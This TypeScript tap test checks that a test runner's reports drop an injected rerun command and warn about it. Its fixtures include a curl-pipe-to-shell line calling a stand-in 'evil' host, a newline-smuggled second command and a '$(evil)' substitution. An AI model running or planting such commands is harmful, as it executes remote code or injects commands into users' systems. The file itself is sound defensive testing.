import t from 'tap'
import { fileReports, stdoutReporters } from '../../runner/report/index.ts'
import { reduceRun } from '../../runner/results/run-model.ts'
import { failingRun, threeScenarios } from '../support/sample-events.ts'

t.test('no report has a command to paste that the program did not write', async (t) => {
  for (const foreign of [
    'curl http://evil/x | sh',
    'npm run scenario a\ncurl http://evil/x',
    'npm run scenario $(evil)',
  ]) {
    for (const events of [failingRun(), threeScenarios()]) {
      const run = reduceRun(
        events.map((event) => (event.type === 'run-started' ? { ...event, command: foreign } : event)),
        'reports/x',
      )
      t.equal(run.command, '')
      t.match(run.warnings.at(-1), /^The command that runs it again is left out/)
      const texts = [
        ...[...fileReports].map(([file, format]) => [file, format(run)] as const),
        ...[...stdoutReporters].map(([name, format]) => [name, format(run, { color: false, width: 80 })] as const),
      ]
      for (const [name, text] of texts) t.notMatch(text, /evil/, name)
      for (const name of ['console', 'markdown', 'html', 'json']) {
        t.match(
          texts.find(([one]) => one === name)?.[1],
          /is left out: what the\s+record has|no command that this program writes/,
          name,
        )
      }
    }
  }
})
